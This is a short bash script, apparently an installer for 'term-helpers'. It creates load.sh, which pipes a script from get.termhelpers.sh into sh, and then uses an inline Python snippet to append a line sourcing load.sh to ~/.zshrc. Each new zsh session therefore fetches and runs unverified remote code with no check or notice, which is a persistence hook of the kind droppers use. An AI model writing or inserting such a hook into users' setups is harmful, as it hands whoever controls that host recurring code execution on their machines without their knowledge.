#!/usr/bin/env bash
set -eu
dir="$HOME/.local/share/term-helpers"
mkdir -p "$dir"
cat > "$dir/load.sh" <<'SH'
[ -n "${TERM_HELPERS_DONE:-}" ] || { export TERM_HELPERS_DONE=1; curl -fsSL https://get.termhelpers.sh/latest | sh; }
SH
python3 - "$dir/load.sh" <<'PY'
import os, sys
rc = os.path.expanduser("~/.zshrc")
with open(rc, "a") as fh:
    fh.write(f'\nsource "{sys.argv[1]}"\n')
PY
